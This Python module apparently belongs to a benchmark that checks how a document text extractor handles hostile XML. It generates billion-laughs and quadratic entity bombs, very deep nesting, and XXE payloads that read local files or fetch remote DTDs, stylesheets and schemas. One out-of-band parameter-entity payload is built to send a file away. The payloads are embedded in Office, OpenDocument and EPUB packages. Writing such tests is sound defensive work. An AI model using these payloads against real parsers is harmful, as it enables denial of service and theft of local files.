"""XML that grows when it is read, or wants to be completed with files and pages of others."""

from __future__ import annotations

from semspace.bench.faults.archives import replaced
from semspace.bench.faults.hostile import READ, Hostile, Outside, content, reaching
from semspace.bench.faults.originals import W, docx, epub, opendocument, pptx, xlsx

KIND = "hostile XML (entities, DTD, depth)"
_DECLARED = "XML that declares entities"
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"


def laughs(root: str = "lolz") -> str:
    """Return a prologue of a billion laughs: ten entities, each ten times the one before."""
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{10 * f"&l{n - 1};"}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]>'


def quadratic() -> bytes:
    """Return one long entity, used often."""
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "' + b"river " * 20_000 + b'">]><a>' + b"&e;" * 20_000 + b"</a>"


def external(target: str, root: str = "a") -> str:
    """Return a prologue with an entity that stands for something outside."""
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "{target}">]>'


def _word(prologue: str, reference: str) -> bytes:
    body = f"<w:p><w:r><w:t>river {reference}</w:t></w:r></w:p>"
    document = f'{prologue}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return replaced(docx([("Normal", "x")]), "word/document.xml", document)


def _sheet(prologue: str, reference: str) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    row = f'<row r="1"><c r="A1" t="inlineStr"><is><t>river {reference}</t></is></c></row>'
    sheet = f'{prologue}<worksheet xmlns="{space}"><sheetData>{row}</sheetData></worksheet>'
    return replaced(xlsx([["a"]]), "xl/worksheets/sheet1.xml", sheet)


def _slides(prologue: str, reference: str) -> bytes:
    spaces = (
        'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    )
    shape = f"<p:sp><p:txBody><a:p><a:r><a:t>river {reference}</a:t></a:r></a:p></p:txBody></p:sp>"
    slide = f"{prologue}<p:sld {spaces}><p:cSld><p:spTree>{shape}</p:spTree></p:cSld></p:sld>"
    return replaced(pptx([["x"]]), "ppt/slides/slide1.xml", slide)


def _text(prologue: str, reference: str) -> bytes:
    spaces = f'xmlns:office="{_ODF}office:1.0" xmlns:text="{_ODF}text:1.0"'
    body = f"<office:body><office:text><text:p>river {reference}</text:p></office:text></office:body>"
    document = f"{prologue}<office:document-content {spaces}>{body}</office:document-content>"
    return replaced(opendocument(""), "content.xml", document)


def _book(prologue: str, reference: str) -> bytes:
    package = f'{prologue}<package xmlns="http://www.idpf.org/2007/opf"><metadata>{reference}</metadata></package>'
    return replaced(epub(["river"]), "OPS/book.opf", package)


def _flat(prologue: str, reference: str) -> bytes:
    return f"{prologue}<a>river {reference}</a>".encode()


def _attributes(form: str, count: int) -> bytes:
    return f"<a {' '.join(map(form.format, range(count)))}>river</a>".encode()


def _parameter(outside: Outside) -> bytes:
    """Return a document whose DTD is to be fetched, and then to send a file away."""
    declared = f'<!ENTITY % d SYSTEM "{outside.url}evil.dtd"><!ENTITY % f SYSTEM "{outside.file}">%d;%f;'
    return f'<?xml version="1.0"?><!DOCTYPE a [{declared}]><a>river</a>'.encode()


def _included(outside: Outside) -> bytes:
    spaces = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    parts = "".join(f'<xi:include href="{url}" parse="text"/>' for url in (outside.file, outside.url))
    return f'<?xml version="1.0"?><a {spaces}>river {parts}</a>'.encode()


def _styled(outside: Outside) -> bytes:
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{outside.url}evil.xsl"?><a>river</a>'.encode()


def _dtd(outside: Outside) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{outside.url}evil.dtd"><a>river</a>'.encode()


def _schema(outside: Outside) -> bytes:
    space = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    return f'<?xml version="1.0"?><a {space} xsi:noNamespaceSchemaLocation="{outside.url}evil.xsd">river</a>'.encode()


def _page(outside: Outside) -> bytes:
    wanted = "".join(
        f'<img src="{url}"><link rel=stylesheet href="{url}"><iframe src="{url}"></iframe><script src="{url}"></script>'
        f'<object data="{url}"></object><base href="{url}"><meta http-equiv=refresh content="0;url={url}">'
        for url in (outside.file, outside.url)
    )
    return f"<!doctype html><html><body>{wanted}<p>river bread".encode()


_MAKERS = {"xml": _flat, "docx": _word, "xlsx": _sheet, "pptx": _slides, "odt": _text, "epub": _book}
_LAUGHED = f"{_DECLARED}|not a valid|no text|crashed|too much memory|{READ}"
"""kreuzberg leaves entities as they stand, or out."""

ENTITIES: list[Hostile] = []
for _suffix, _make in _MAKERS.items():
    _ours = _DECLARED if _suffix in ("xml", "odt", "epub") else _LAUGHED
    ENTITIES += [
        content(KIND, f"laughs.{_suffix}", lambda make=_make: make(laughs(), "&l9;"), _ours),  # type: ignore[misc]
        reaching(KIND, f"file.{_suffix}", lambda o, make=_make: make(external(o.file), "&x;"), _ours),  # type: ignore[misc]
        reaching(KIND, f"page.{_suffix}", lambda o, make=_make: make(external(o.url), "&x;"), _ours),  # type: ignore[misc]
    ]
ENTITIES += [
    content(KIND, "quadratic.xml", quadratic, _DECLARED),
    content(KIND, "sixteen.xml", lambda: (laughs() + "<lolz>&l9;</lolz>").encode("utf-16"), _DECLARED),
    content(KIND, "laughs.fodt", lambda: _flat(laughs(), "&l9;"), _DECLARED),
    content(KIND, "laughs.xhtml", lambda: _flat(laughs("html"), "&l9;"), READ),
    content(KIND, "deep.xml", lambda: b"<a>" * 100_000 + b"x" + b"</a>" * 100_000, "nested too deeply"),
    content(KIND, "open.xml", lambda: b"<a>" * 100_000 + b"x", "nested too deeply"),
    content(KIND, "attributes.xml", lambda: _attributes("a{0}='{0}'", 100_000), READ),
    content(KIND, "spaces.xml", lambda: _attributes("xmlns:a{0}='{0}'", 50_000), READ),
    content(KIND, "elements.xml", lambda: b"<a>" + b"<b>river</b>" * 400_000 + b"</a>", READ),
    content(KIND, "empty.xml", lambda: b"<a>" + b"<b/>" * 2_000_000 + b"</a>", "no text in it"),
    content(KIND, "cdata.xml", lambda: b"<a><![CDATA[" + b"river ]]" * 100_000, READ),
    content(KIND, "comment.xml", lambda: b"<a><!--" + b"- -" * 500_000, READ),
    reaching(KIND, "parameter.xml", _parameter, _DECLARED),
    reaching(KIND, "include.xml", _included, READ),
    reaching(KIND, "stylesheet.xml", _styled, READ),
    reaching(KIND, "dtd.xml", _dtd, READ),
    reaching(KIND, "schema.xml", _schema, READ),
    reaching(KIND, "page.html", _page, READ),
]
